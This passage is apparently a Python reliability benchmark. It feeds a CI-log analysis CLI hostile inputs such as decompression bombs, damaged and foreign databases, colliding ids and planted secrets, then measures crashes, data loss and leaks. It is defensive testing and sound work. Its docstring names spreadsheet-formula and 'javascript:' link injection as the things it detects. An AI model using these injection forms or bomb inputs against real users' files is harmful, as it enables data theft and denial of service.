"""Reliability bench (issue 13): hundreds of hostile inputs through the real command lines.

    python bench/reliability_bench.py [--jobs 2] [--only CLASS[,CLASS]] [--keep] [--list]

Every case prepares a folder (a copy of a baseline store holding one repository, a hostile dump,
a damaged store, a foreign SQLite file, a decompression bomb ...), runs ``ci-medic`` and/or the
worker (``core.queue.cli.main(argv)``, exactly what ``python -m agents.cli`` runs) in a fresh
interpreter (a few cheap argument cases share one), and checks:

- crash: an exit code outside {0, 1, 2}, a timeout or a kill, "Traceback" anywhere in the
  output, "Unexpected error (" on stderr (the CLI's own words for a bug it caught), memory
  beyond a bound, or an exit code the case's contract rules out (a foreign store accepted,
  ``analyze --repo nobody/none`` exiting 0);
- loss: rows of a repository that was in the store before and differ after (row count and a
  hash of its runs and jobs), a refused import that changed any table, a foreign file whose
  bytes or mtime changed (or that got a -wal/-journal next to it), runs a sync should have
  stored and did not, or an import that reports more than it stored;
- leak: a planted secret (``tests/planted.py``: 20 kinds, each placed in a log line, an error
  line, a job name, a step name, a commit message, a JUnit message), the configured token, or
  the content of a file outside the dump appearing in stdout, stderr, any table of the store
  (logs decompressed; the outbox is named apart), the store file's bytes, or a CSV written;
  also active content reaching an output unneutralised: a CSV cell a spreadsheet would run
  (``=HYPERLINK(...)``), a ``javascript:`` link in a CSV, Markdown from GitHub data drawn
  unescaped by a page (the app is rendered once with Streamlit's AppTest over such a store).

It prints one line per class (cases, crashes, losses, leaks), a total line
``cases N crashes C losses L leaks K``, then every failing case with a one-line reason, and
always exits 0 (it measures; it never asserts). It needs nothing from ../shared. On 2 cores it
takes a few minutes; ``--only secrets,bombs`` runs some classes, ``--keep`` keeps the folders.
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import gzip
import hashlib
import io
import json
import os
import random
import re
import shutil
import sqlite3
import subprocess
import sys
import tempfile
import time
import traceback
import zlib
from collections import defaultdict
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

MIB = 1024 * 1024
GIB = 1024 * MIB
MEMORY_CAP = 3 * GIB  # address space of each case's interpreter: a bomb read unbounded dies
PEAK_RSS_BOUND = 1 * GIB  # a case that held more than this read something unbounded
CASE_TIMEOUT_S = 240
BUG = "Unexpected error ("
BATCH = 12  # cases per interpreter when they can share one (see BATCHED)
# Classes whose cases share an interpreter, BATCH at a time (each its own folder, store and
# environment; only what a process remembers, e.g. secrets it was told, carries over): starting
# Python and pandas for each would triple the bench's time. Bombs, syncs and collisions get one
# interpreter each.
BATCHED = {
    "secrets",
    "csv_injection",
    "path_traversal",
    "foreign_db",
    "damaged_store",
    "malformed_dump",
    "bad_arguments",
    "atomicity",
    "odd_ids",
}

BASE_REPO = "base-org/keep"  # the repository every case's store holds before it runs
HOSTILE_REPO = "octo-org/demo"  # the repository the hostile dumps hold (other ids)
TOKEN = "ghp_" + "Zq8RelBench0CanaryToken1234567890abcd"  # configured in every case's environment


# -- running the command lines in a child interpreter -----------------------------------------
@dataclass
class Step:
    """One command: ``module`` is ``agents.cli`` (ci-medic) or ``core.queue.cli`` (the worker)."""

    argv: list[str]
    module: str = "agents.cli"
    env: dict[str, str | None] = field(default_factory=dict)


@dataclass
class Result:
    argv: list[str]
    code: object
    out: str
    err: str
    seconds: float = 0.0


def _shim(spec_path: str) -> None:
    """Child side: run each step's ``main(argv)`` in this interpreter, output captured per step,
    results written as JSON next to the spec (stdout is left to whatever writes to fd 1)."""
    import importlib
    import logging
    import resource

    spec = json.loads(Path(spec_path).read_text())
    cap = spec.get("memory_cap")
    if cap:
        resource.setrlimit(resource.RLIMIT_AS, (cap, cap))
    results = []
    for step in spec["steps"]:
        saved = dict(os.environ)
        for key, value in step["env"].items():
            if value is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = value
        os.chdir(step["cwd"])
        out, err = io.StringIO(), io.StringIO()
        started = time.perf_counter()
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            try:
                main = importlib.import_module(step["module"]).main
                code: object = main(step["argv"])
            except SystemExit as exc:
                code = exc.code if isinstance(exc.code, int) else (0 if exc.code is None else 1)
            except BaseException:  # noqa: BLE001 - what escapes main() is what we measure
                traceback.print_exc(file=err)
                code = "exception"
        for handler in list(logging.root.handlers):  # the worker binds logging to stderr
            logging.root.removeHandler(handler)
        os.environ.clear()
        os.environ.update(saved)
        results.append(
            {
                "code": code,
                "out": out.getvalue(),
                "err": err.getvalue(),
                "seconds": time.perf_counter() - started,
            }
        )
    usage = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
    Path(spec["results"]).write_text(json.dumps({"steps": results, "peak_rss": usage}))


def _run_steps(
    steps: list[tuple[Step, Path]], *, memory_cap: int | None, timeout: float, scratch: Path
) -> tuple[list[Result], int, str | None]:
    """Run ``(step, cwd)`` pairs in one fresh interpreter: (results, peak RSS, failure)."""
    scratch.mkdir(parents=True, exist_ok=True)
    spec_path, results_path = scratch / "spec.json", scratch / "results.json"
    spec = {
        "steps": [
            {"argv": s.argv, "module": s.module, "env": s.env, "cwd": str(cwd)} for s, cwd in steps
        ],
        "memory_cap": memory_cap,
        "results": str(results_path),
    }
    spec_path.write_text(json.dumps(spec))
    env = _base_env(scratch)
    try:
        proc = subprocess.run(
            [sys.executable, str(Path(__file__).resolve()), "--shim", str(spec_path)],
            cwd=ROOT,
            env=env,
            capture_output=True,
            text=True,
            timeout=timeout,
        )
    except subprocess.TimeoutExpired:
        return [], 0, f"timed out after {timeout:.0f} s"
    if not results_path.exists():
        tail = (proc.stderr or proc.stdout).strip().splitlines()[-1:] or ["no output"]
        return [], 0, f"the interpreter died (exit {proc.returncode}): {tail[0][:160]}"
    data = json.loads(results_path.read_text())
    results = [
        Result(s.argv, r["code"], r["out"], r["err"], r["seconds"])
        for (s, _), r in zip(steps, data["steps"], strict=True)
    ]
    if proc.stdout.strip() or proc.stderr.strip():  # written to fd 1/2 past the redirection
        results[-1].err += proc.stderr
        results[-1].out += proc.stdout
    return results, int(data["peak_rss"]), None


def _base_env(home: Path) -> dict[str, str]:
    env = {
        k: v
        for k, v in os.environ.items()
        if not k.startswith(("CI_MEDIC_", "AWS_")) and k not in {"GITHUB_TOKEN", "GH_TOKEN"}
    }
    env.update(
        {
            "CI_MEDIC_HOME": str(home / "home"),
            "CI_MEDIC_WORKER_EMBEDDED": "false",
            "CI_MEDIC_GITHUB_TOKEN": TOKEN,
            "CI_MEDIC_GITHUB_BASE_URL": "http://127.0.0.1:9",  # nothing leaves the machine
            "AWS_EC2_METADATA_DISABLED": "true",
            "OPENBLAS_NUM_THREADS": "1",
            "OMP_NUM_THREADS": "1",
            "PYTHONPATH": str(ROOT),
        }
    )
    return env


# -- cases ------------------------------------------------------------------------------------
@dataclass
class Case:
    klass: str
    name: str
    steps: list[Step] | Callable[[Ctx], list[Step]] = field(default_factory=list)
    prepare: Callable[[Ctx], None] | None = None
    secrets: tuple[str, ...] = ()  # strings that must appear in no output
    expect: tuple[set[int] | None, ...] = ()  # per step: allowed exit codes (None: any of 0-2)
    atomic: bool = False  # a failed import must leave every table as it was
    store: bool = True  # the case starts from a copy of the baseline store
    changes: tuple[str, ...] = ()  # repositories the case may legitimately change
    protect: tuple[str, ...] = ()  # files (relative) whose bytes and mtime must not change
    checks: tuple[Callable[[Ctx, list[Result]], list[str]], ...] = ()
    memory_cap: int | None = MEMORY_CAP
    batch: bool = False
    timeout: float = CASE_TIMEOUT_S


@dataclass
class Ctx:
    """One case's folder and what its preparation left for its steps and checks."""

    dir: Path
    assets: Assets
    data: dict[str, Any] = field(default_factory=dict)
    cleanup: list[Callable[[], None]] = field(default_factory=list)

    @property
    def db(self) -> Path:
        return self.dir / "s.db"

    @property
    def out(self) -> Path:
        return self.dir / "out"

    @property
    def dump(self) -> Path:
        return self.dir / "dump"

    def hostile_dump(self, runs: int = 3) -> Path:
        """A copy of the hostile dump (``runs`` of 3 or 14) to edit."""
        source = self.assets.hostile if runs == 3 else self.assets.hostile_many
        shutil.copytree(source, self.dump)
        return self.dump


@dataclass
class Outcome:
    case: Case
    reasons: list[str]
    seconds: float


# -- shared inputs ----------------------------------------------------------------------------
@dataclass
class Assets:
    folder: Path
    base_dump: Path
    template: Path  # a store holding BASE_REPO, made by `ci-medic import`
    hostile: Path  # HOSTILE_REPO: 3 runs, uncompressed, run 2 fails (job 1)
    hostile_many: Path  # HOSTILE_REPO: 14 runs, every one failing
    bombs: dict[str, Path]
    baseline_error: str | None = None


@contextlib.contextmanager
def _ids(run_base: int, job_base: int) -> Iterator[None]:
    """Make ``dump_factory`` number runs and jobs from other bases (no id shared with its
    default dumps). The factory reads these module functions at call time."""
    from tests.integration import dump_factory as factory

    saved = factory.run_id, factory.job_id
    factory.run_id = lambda index: run_base + index * 1000
    factory.job_id = lambda index, attempt=1, job=0: job_base + index * 1000 + attempt * 10 + job
    try:
        yield
    finally:
        factory.run_id, factory.job_id = saved


def _set_repo_id(root: Path, repo_id: int) -> Path:
    """``dump_factory`` gives every dump repository id 424242: a second repository needs its own
    (two dumps sharing one are one repository under two names, a rename)."""
    repo = json.loads((root / "repo.json").read_text())
    repo["id"] = repo_id
    (root / "repo.json").write_text(json.dumps(repo, indent=2))
    return root


def _build_assets(folder: Path) -> Assets:
    from tests.bombs import text_bomb, zeros_bomb
    from tests.integration.dump_factory import make_dump

    with _ids(7_000_000_000, 23_000_000_000):
        base = _set_repo_id(make_dump(folder / "base-dump", runs=4, full_name=BASE_REPO), 515151)
    hostile = make_dump(folder / "hostile", runs=3, full_name=HOSTILE_REPO)
    many = make_dump(folder / "hostile-many", runs=14, fail_every=1, full_name=HOSTILE_REPO)
    bombs = {"zeros": zeros_bomb(folder / "zeros.gz"), "text": text_bomb(folder / "text.gz")}
    template = folder / "template.db"
    results, _, failure = _run_steps(
        [(Step(["--db", str(template), "import", str(base)]), folder)],
        memory_cap=None,
        timeout=300,
        scratch=folder / "template-run",
    )
    error = failure or (None if results and results[0].code == 0 else results[0].err.strip())
    return Assets(folder, base, template, hostile, many, bombs, error)


# -- editing a dump ---------------------------------------------------------------------------
def _stamp(i: int = 0) -> str:
    return f"2024-05-01T12:00:{i % 60:02d}.0000000Z "


def _read_json(path: Path) -> Any:
    return json.loads(path.read_text())


def _write_json(path: Path, value: Any) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(value))


def _runs(root: Path, name: str = "runs.jsonl") -> list[dict]:
    return [json.loads(line) for line in (root / name).read_text().splitlines() if line.strip()]


def _write_runs(root: Path, rows: list[Any], name: str = "runs.jsonl") -> None:
    lines = [row if isinstance(row, str) else json.dumps(row) for row in rows]
    (root / name).write_text("\n".join(lines) + "\n")


def _failing(root: Path) -> tuple[int, int, str]:
    """(run id, failing job id, head sha) of the hostile dump's failing run (the last)."""
    run = _runs(root)[-1]
    jobs = _read_json(root / "jobs" / f"{run['id']}.json")["jobs"]
    job = next(j for j in jobs if j["conclusion"] == "failure")
    return run["id"], job["id"], run["head_sha"]


def _edit_job(root: Path, change: Callable[[dict], None], which: int = -1) -> None:
    run_id, job_id, _ = _failing(root)
    path = root / "jobs" / f"{run_id}.json"
    data = _read_json(path)
    job = next(j for j in data["jobs"] if j["id"] == job_id) if which == -1 else data["jobs"][which]
    change(job)
    _write_json(path, data)


def _edit_log(root: Path, change: Callable[[str], str]) -> None:
    _, job_id, _ = _failing(root)
    path = root / "logs" / f"{job_id}.txt"
    path.write_text(change(path.read_text()))


def _timestamped(text: str, i: int) -> str:
    return "\n".join(_stamp(i + k) + line for k, line in enumerate(text.split("\n")))


def _xml_attr(text: str) -> str:
    return (
        text.replace("&", "&amp;")
        .replace('"', "&quot;")
        .replace("<", "&lt;")
        .replace(">", "&gt;")
        .replace("\n", "&#10;")
    )


def _junit_path(root: Path) -> Path:
    run_id, _, _ = _failing(root)
    return root / "artifacts" / str(run_id) / "test-results" / "junit.xml"


def _plant(root: Path, place: str, text: str, bare: bool = False) -> None:
    """Put ``text`` (as a program prints it) at ``place`` of the hostile dump's failing run;
    ``bare``: the name or message is ``text`` itself, not ``deploy {text}``."""
    if place == "log-line":
        _edit_log(
            root,
            lambda log: log.replace(
                "Syncing repository",
                _timestamped(f"deploy: {text}", 7)[len(_stamp(7)) :]
                + "\n"
                + _stamp(8)
                + "Syncing repository",
                1,
            ),
        )
    elif place == "error-line":
        _edit_log(
            root,
            lambda log: log.replace(
                "AssertionError: timeout\n",
                "AssertionError: " + text.replace("\n", "\n" + _stamp(9)) + "\n",
            ),
        )
    elif place == "job-name":
        _edit_job(root, lambda job: job.update(name=text if bare else f"deploy {text}"))
    elif place == "step-name":
        _edit_job(root, lambda job: job["steps"][2].update(name=text if bare else f"Run {text}"))
    elif place == "commit-message":
        _, _, sha = _failing(root)
        path = root / "commits" / f"{sha}.json"
        commit = _read_json(path)
        commit["commit"]["message"] = text if bare else f"fix: {text}"
        _write_json(path, commit)
    elif place == "junit-message":
        path = _junit_path(root)
        path.write_text(
            path.read_text().replace(
                'message="AssertionError: timeout"', f'message="{_xml_attr(text)}"'
            )
        )
    elif place == "junit-name":
        path = _junit_path(root)
        path.write_text(path.read_text().replace('name="test_flaky"', f'name="{_xml_attr(text)}"'))
    elif place == "run-title":
        rows = _runs(root)
        rows[-1]["display_title"] = text
        _write_runs(root, rows)
    elif place == "branch":
        rows = _runs(root)
        rows[-1]["head_branch"] = text
        _write_runs(root, rows)
    elif place == "run-url":
        rows = _runs(root)
        rows[-1]["html_url"] = text
        _write_runs(root, rows)
    elif place == "job-url":
        _edit_job(root, lambda job: job.update(html_url=text))
    else:
        raise ValueError(place)


# -- checking ---------------------------------------------------------------------------------
def _connect(db: Path) -> sqlite3.Connection | None:
    if not db.is_file():
        return None
    try:
        con = sqlite3.connect(f"file:{db}?mode=ro", uri=True, timeout=5)
        con.execute("SELECT COUNT(*) FROM sqlite_master").fetchone()
        return con
    except sqlite3.Error:
        return None


def _tables(con: sqlite3.Connection) -> list[str]:
    rows = con.execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall()
    return sorted(r[0] for r in rows if not r[0].startswith("sqlite_"))


def _digest(rows: list[tuple]) -> str:
    return hashlib.sha256("\n".join(sorted(map(repr, rows))).encode()).hexdigest()[:16]


def snapshot(db: Path) -> dict[str, Any] | None:
    """Per repository: (rows, hash) of its runs and jobs; and a hash of every table."""
    con = _connect(db)
    if con is None:
        return None
    try:
        tables = _tables(con)
        every = {t: _digest(con.execute(f"SELECT * FROM {t}").fetchall()) for t in tables}
        repos: dict[str, dict[str, tuple[int, str]]] = defaultdict(dict)
        if "repositories" in tables:
            names = dict(con.execute("SELECT id, full_name FROM repositories").fetchall())
            for table in ("runs", "jobs", "steps", "commits"):
                if table not in tables:
                    continue
                grouped: dict[int, list[tuple]] = defaultdict(list)
                cursor = con.execute(f"SELECT * FROM {table}")
                columns = [d[0] for d in cursor.description]
                if "repo_id" not in columns:
                    continue
                at = columns.index("repo_id")
                for row in cursor.fetchall():
                    grouped[row[at]].append(row)
                for repo_id, name in names.items():
                    rows = grouped.get(repo_id, [])
                    repos[name.lower()][table] = (len(rows), _digest(rows))
        return {"tables": every, "repos": dict(repos)}
    except sqlite3.Error:
        return None
    finally:
        con.close()


def _store_texts(db: Path) -> Iterator[tuple[str, str]]:
    """(where, text) of every cell of every table (compressed logs decompressed), then the raw
    bytes of the store file and its WAL."""
    con = _connect(db)
    if con is not None:
        try:
            for table in _tables(con):
                cursor = con.execute(f"SELECT * FROM {table}")
                columns = [d[0] for d in cursor.description]
                for row in cursor:
                    for column, value in zip(columns, row, strict=True):
                        if isinstance(value, bytes):
                            with contextlib.suppress(zlib.error):
                                value = zlib.decompress(value)
                            value = value.decode("utf-8", "replace")
                        if isinstance(value, str):
                            where = "the outbox" if table == "outbox" else f"store {table}.{column}"
                            yield where, value
        except sqlite3.Error:
            pass
        finally:
            con.close()
    for path in (db, db.with_name(db.name + "-wal")):
        if path.is_file():
            yield "the store file's bytes", path.read_bytes().decode("latin-1")


def _written_files(ctx: Ctx) -> Iterator[tuple[str, str]]:
    if ctx.out.is_dir():
        for path in sorted(ctx.out.rglob("*")):
            if path.is_file():
                yield f"out/{path.relative_to(ctx.out)}", path.read_text("utf-8", "replace")


def find_leaks(ctx: Ctx, results: list[Result], secrets: tuple[str, ...]) -> list[str]:
    if not secrets:
        return []
    places: list[tuple[str, str]] = []
    for result in results:
        places += [("stdout", result.out), ("stderr", result.err)]
    places += list(_written_files(ctx))
    places += list(_store_texts(ctx.db))
    found: dict[str, set[str]] = defaultdict(set)
    for where, text in places:
        for secret in secrets:
            if secret and secret in text:
                found[secret].add(where)
    reasons = []
    for secret, wheres in found.items():
        cells = sorted(w for w in wheres if w != "the store file's bytes")
        shown = ", ".join(cells) or "the store file's bytes (a freed page)"
        reasons.append(f"leak: {secret[:12]}... in {shown}")
    return reasons


def _crashes(case: Case, results: list[Result]) -> list[str]:
    reasons = []
    for index, result in enumerate(results):
        label = " ".join(result.argv)[:60]
        if "Traceback (most recent call last)" in result.err + result.out:
            last = [line for line in result.err.strip().splitlines() if line.strip()][-1:]
            reasons.append(f"crash: traceback ({(last or ['?'])[0][:140]}) in `{label}`")
        elif BUG in result.err:
            line = next(x for x in result.err.splitlines() if BUG in x)
            reasons.append(f"crash: {line.split('. This is a bug')[0][:160]} in `{label}`")
        elif result.code not in (0, 1, 2):
            reasons.append(f"crash: exit {result.code} in `{label}`")
        allowed = case.expect[index] if index < len(case.expect) else None
        if allowed is not None and result.code not in allowed:
            said = result.err.strip().splitlines() or result.out.strip().splitlines() or [""]
            reasons.append(
                f"crash: exit {result.code}, expected {sorted(allowed)} in `{label}`: "
                f"{said[-1][:120]}"
            )
    return reasons


def _losses(
    case: Case, before: dict | None, after: dict | None, results: list[Result]
) -> list[str]:
    if before is None:
        return []
    if after is None:
        return ["loss: the store could not be read after the case"]
    reasons = []
    refused = any(r.code not in (0,) for r in results)
    if case.atomic and refused and after["tables"] != before["tables"]:
        changed = [t for t in after["tables"] if after["tables"][t] != before["tables"].get(t)]
        reasons.append(f"loss: a refused import changed tables {', '.join(changed)}")
    for repo, tables in before["repos"].items():
        if repo in {c.lower() for c in case.changes}:
            continue
        for table, (count, digest) in tables.items():
            now = after["repos"].get(repo, {}).get(table)
            if now is None:
                reasons.append(f"loss: {repo} has no {table} any more ({count} before)")
            elif now != (count, digest):
                reasons.append(
                    f"loss: {repo}'s {table} changed ({count} rows -> {now[0]}, content differs)"
                )
    return reasons


def _file_state(path: Path) -> tuple:
    if not path.exists():
        return ("absent",)
    stat = path.stat()
    siblings = sorted(p.name for p in path.parent.iterdir() if p.name.startswith(path.name))
    return hashlib.sha256(path.read_bytes()).hexdigest(), stat.st_mtime_ns, tuple(siblings)


# -- running cases ----------------------------------------------------------------------------
def _prepare(case: Case, ctx: Ctx) -> str | None:
    ctx.dir.mkdir(parents=True)
    ctx.out.mkdir()
    if case.store and ctx.assets.baseline_error is None:
        shutil.copyfile(ctx.assets.template, ctx.db)
    try:
        if case.prepare is not None:
            case.prepare(ctx)
    except Exception as exc:  # noqa: BLE001 - a bench bug, shown as such
        return f"bench: preparing failed ({type(exc).__name__}: {exc})"
    return None


def _steps_of(case: Case, ctx: Ctx) -> list[Step]:
    return case.steps(ctx) if callable(case.steps) else case.steps


def _evaluate(
    case: Case, ctx: Ctx, results: list[Result], before: dict | None, protected: dict, peak: int
) -> list[str]:
    reasons = _crashes(case, results)
    if peak > PEAK_RSS_BOUND:
        reasons.append(
            f"crash: peak memory {peak / MIB:,.0f} MB (bound {PEAK_RSS_BOUND / MIB:,.0f})"
        )
    reasons += _losses(case, before, snapshot(ctx.db) if before is not None else None, results)
    for rel, state in protected.items():
        if _file_state(ctx.dir / rel) != state:
            reasons.append(f"loss: the foreign file {rel} was modified (bytes, mtime or sidecars)")
    for check in case.checks:
        reasons += check(ctx, results)
    reasons += find_leaks(ctx, results, (*case.secrets, TOKEN, TOKEN[4:20]))
    return reasons


def run_cases(cases: list[Case], assets: Assets, jobs: int, keep: bool) -> list[Outcome]:
    work = assets.folder / "cases"
    prepared: list[tuple[Case, Ctx, str | None, dict | None, dict]] = []
    for number, case in enumerate(cases):
        ctx = Ctx(work / f"{number:04d}", assets)
        failure = _prepare(case, ctx)
        before = snapshot(ctx.db) if failure is None else None
        protected = {rel: _file_state(ctx.dir / rel) for rel in case.protect}
        prepared.append((case, ctx, failure, before, protected))

    def one_unit(unit: list[tuple[Case, Ctx, str | None, dict | None, dict]]) -> list[Outcome]:
        started = time.perf_counter()
        steps: list[tuple[Step, Path]] = []
        spans = []
        for case, ctx, failure, _, _ in unit:
            own = [] if failure else _steps_of(case, ctx)
            spans.append((len(steps), len(steps) + len(own)))
            steps += [(step, ctx.dir) for step in own]
        cap = min((c.memory_cap or 0 for c, *_ in unit), default=0) or None
        results, peak, died = (
            _run_steps(
                steps,
                memory_cap=cap,
                timeout=sum(c.timeout for c, *_ in unit),
                scratch=unit[0][1].dir / "run",
            )
            if steps
            else ([], 0, None)
        )
        outcomes = []
        for (case, ctx, failure, before, protected), (a, b) in zip(unit, spans, strict=True):
            if failure:
                reasons = [failure]
            elif died:
                reasons = [f"crash: {died}"]
            else:
                reasons = _evaluate(case, ctx, results[a:b], before, protected, peak)
            outcomes.append(Outcome(case, reasons, time.perf_counter() - started))
            for stop in ctx.cleanup:
                with contextlib.suppress(Exception):
                    stop()
            if not keep:
                shutil.rmtree(ctx.dir, ignore_errors=True)
        return outcomes

    units: list[list] = []
    shared = [p for p in prepared if p[0].batch or p[0].klass in BATCHED]
    units += [shared[i : i + BATCH] for i in range(0, len(shared), BATCH)]
    units += [[p] for p in prepared if not (p[0].batch or p[0].klass in BATCHED)]
    units.sort(key=lambda unit: -max(c.timeout for c, *_ in unit))  # bombs first
    with ThreadPoolExecutor(max_workers=jobs) as pool:
        done = [o for unit in pool.map(one_unit, units) for o in unit]
    order = {id(case): i for i, case in enumerate(cases)}
    return sorted(done, key=lambda o: order[id(o.case)])


# ==============================================================================================
# The classes of hostile input (issue 13's list)
# ==============================================================================================
def _import() -> Callable[[Ctx], list[Step]]:
    return lambda ctx: [Step(["--db", str(ctx.db), "import", str(ctx.dump)])]


def _import_analyze(ctx: Ctx) -> list[Step]:
    return [
        Step(["--db", str(ctx.db), "import", str(ctx.dump)]),
        Step(["--db", str(ctx.db), "analyze", "--repo", HOSTILE_REPO, "--out", str(ctx.out)]),
    ]


def _stored(repo: str, table: str, where: str = "1") -> Callable[[Ctx], int | None]:
    def count(ctx: Ctx) -> int | None:
        con = _connect(ctx.db)
        if con is None:
            return None
        queries = [
            f"SELECT COUNT(*) FROM {table} t JOIN repositories r ON r.id = t.repo_id "
            f"WHERE lower(r.full_name) = lower(?) AND {where}",
            # a table without repo_id (steps before the schema keys rows by repository)
            f"SELECT COUNT(*) FROM {table} s JOIN jobs t ON t.job_id = s.job_id "
            f"JOIN repositories r ON r.id = t.repo_id WHERE lower(r.full_name) = lower(?)",
        ]
        try:
            for query in queries:
                with contextlib.suppress(sqlite3.OperationalError):
                    return con.execute(query, (repo,)).fetchone()[0]
            return None
        except sqlite3.Error:
            return None
        finally:
            con.close()

    return count


def _reported_equals_stored(ctx: Ctx, results: list[Result]) -> list[str]:
    """An import that succeeded stored what its sentence says (runs and jobs)."""
    said = next((r.out for r in results if r.argv[2:3] == ["import"] and r.code == 0), "")
    match = re.search(
        r"Imported ([\d,]+) runs(?: \(and ([\d,]+) earlier attempts\))?, ([\d,]+) jobs", said
    )
    if not match:
        return []
    runs, jobs = (int(match.group(i).replace(",", "")) for i in (1, 3))
    stored_runs = _stored(HOSTILE_REPO, "runs", "t.is_latest = 1")(ctx)
    stored_jobs = _stored(HOSTILE_REPO, "jobs")(ctx)
    if (stored_runs, stored_jobs) != (runs, jobs):
        return [
            f"loss: import said {runs} runs and {jobs} jobs, the store holds "
            f"{stored_runs} runs and {jobs if stored_jobs is None else stored_jobs} jobs"
            if stored_jobs is not None
            else f"loss: import said {runs} runs, the store holds {stored_runs}"
        ]
    return []


def _dump_equals_stored(ctx: Ctx, results: list[Result]) -> list[str]:
    """An import that succeeded stored every run, job and step its dump holds (a refusal is
    fine: nothing was stored)."""
    if not results or results[0].code != 0:
        return []
    runs = _runs(ctx.dump)
    jobs = [
        job
        for run in runs
        for job in (
            _read_json(ctx.dump / "jobs" / f"{run['id']}.json")["jobs"]
            if (ctx.dump / "jobs" / f"{run['id']}.json").is_file()
            else []
        )
    ]
    held = (len(runs), len(jobs), sum(len(job.get("steps") or []) for job in jobs))
    stored = tuple(
        _stored(HOSTILE_REPO, table, where)(ctx)
        for table, where in (("runs", "t.is_latest = 1"), ("jobs", "1"), ("steps", "1"))
    )
    if stored != held:
        return [
            f"loss: the dump holds {held[0]} runs, {held[1]} jobs, {held[2]} steps; "
            f"the store {stored[0]}, {stored[1]}, {stored[2]} (import said it succeeded)"
        ]
    return []


# -- (1) a run dated in the future and the sync cursor ----------------------------------------
def cursor_cases() -> list[Case]:
    cases = []
    variants = [
        ("2-days", timedelta(days=2), ("created_at", "run_started_at")),
        ("400-days", timedelta(days=400), ("created_at", "run_started_at")),
        ("year-3000", datetime(3000, 1, 1, tzinfo=UTC) - datetime.now(UTC), ("created_at",)),
        ("2-days-updated-only", timedelta(days=2), ("updated_at",)),
        ("1-hour", timedelta(hours=1), ("created_at", "run_started_at", "updated_at")),
        ("oldest-run-in-future", timedelta(days=30), ("created_at", "run_started_at")),
    ]
    for name, ahead, keys in variants:
        cases.append(
            Case(
                "future_cursor",
                name,
                prepare=lambda ctx, ahead=ahead, keys=keys, name=name: _cursor_prepare(
                    ctx, ahead, keys, skewed_index=0 if name.startswith("oldest") else 10
                ),
                steps=lambda ctx: [
                    Step(
                        ["--db", str(ctx.db), "sync", HOSTILE_REPO, "--base-url", ctx.data["first"]]
                    ),
                    Step(
                        [
                            "--db",
                            str(ctx.db),
                            "sync",
                            HOSTILE_REPO,
                            "--base-url",
                            ctx.data["second"],
                        ]
                    ),
                ],
                expect=({0}, {0}),
                changes=(HOSTILE_REPO,),
                checks=(_cursor_check,),
                timeout=300,
            )
        )
    return cases


def _cursor_prepare(ctx: Ctx, ahead: timedelta, keys: tuple[str, ...], skewed_index: int) -> None:
    from core.sandbox.emulator.server import Emulator
    from tests.integration import dump_factory

    hour = datetime.now(UTC).replace(minute=0, second=0, microsecond=0)
    saved = dump_factory.START
    dump_factory.START = hour - timedelta(hours=60)
    try:
        dumps = []
        for folder, runs in (("first", 20), ("second", 45)):
            root = dump_factory.make_dump(
                ctx.dir / folder,
                runs=runs,
                with_logs=False,
                with_artifacts=False,
                full_name=HOSTILE_REPO,
            )
            rows = _runs(root)
            for key in keys:
                rows[skewed_index][key] = (datetime.now(UTC) + ahead).strftime("%Y-%m-%dT%H:%M:%SZ")
            _write_runs(root, rows)
            dumps.append(root)
    finally:
        dump_factory.START = saved
    for label, root in zip(("first", "second"), dumps, strict=True):
        emulator = Emulator(root, valid_tokens={TOKEN}).start()
        ctx.cleanup.append(emulator.stop)
        ctx.data[label] = emulator.base_url
    ctx.data["expected"] = 45


def _cursor_check(ctx: Ctx, results: list[Result]) -> list[str]:
    stored = _stored(HOSTILE_REPO, "runs", "t.is_latest = 1")(ctx)
    if stored != ctx.data["expected"]:
        return [
            f"loss: after the second sync the store holds {stored} runs, not 45 (new runs skipped)"
        ]
    return []


# -- (2) a dump of another repository with colliding ids ---------------------------------------
def collision_cases() -> list[Case]:
    def prepare(ctx: Ctx, shift_runs: bool, shift_jobs: bool, via: str, same_repo: bool) -> None:
        """The store holds BASE_REPO; the dump holds another repository that reuses its ids
        (run ids, job ids or both; or the repository id: GitHub's sign of a rename), imported
        or synced."""
        from tests.integration.dump_factory import make_dump

        runs_base = 7_000_000_000 if shift_runs else 8_000_000_000
        jobs_base = 23_000_000_000 if shift_jobs else 24_000_000_000
        with _ids(runs_base, jobs_base):
            make_dump(ctx.dump, runs=4, full_name="other-org/collide")
        _set_repo_id(ctx.dump, 515151 if same_repo else 626262)
        if via == "sync":
            from core.sandbox.emulator.server import Emulator

            emulator = Emulator(ctx.dump, valid_tokens={TOKEN}).start()
            ctx.cleanup.append(emulator.stop)
            ctx.data["url"] = emulator.base_url

    def steps(ctx: Ctx, via: str) -> list[Step]:
        if via == "sync":
            return [
                Step(
                    [
                        "--db",
                        str(ctx.db),
                        "sync",
                        "other-org/collide",
                        "--days",
                        "3650",
                        "--base-url",
                        ctx.data["url"],
                    ]
                )
            ]
        return [Step(["--db", str(ctx.db), "import", str(ctx.dump)])]

    def both_present(ctx: Ctx, results: list[Result]) -> list[str]:
        stored = _stored("other-org/collide", "runs", "t.is_latest = 1")(ctx)
        return [] if stored == 4 else [f"loss: other-org/collide has {stored} runs stored, not 4"]

    cases = []
    for name, runs, jobs, same in (
        ("same-run-and-job-ids", True, True, False),
        ("same-run-ids", True, False, False),
        ("same-job-ids", False, True, False),
        ("no-shared-ids-control", False, False, False),
        ("same-repository-id", False, False, True),
    ):
        for via in ("import", "sync"):
            cases.append(
                Case(
                    "repo_collision",
                    f"{name}-{via}",
                    prepare=lambda ctx, r=runs, j=jobs, v=via, m=same: prepare(ctx, r, j, v, m),
                    steps=lambda ctx, v=via: steps(ctx, v),
                    changes=("other-org/collide",),
                    checks=(both_present,),
                    timeout=300,
                )
            )
    return cases


# -- (3) secrets reaching outputs ---------------------------------------------------------------
SECRET_PLACES = (
    "log-line",
    "error-line",
    "job-name",
    "step-name",
    "commit-message",
    "junit-message",
)


def secret_cases() -> list[Case]:
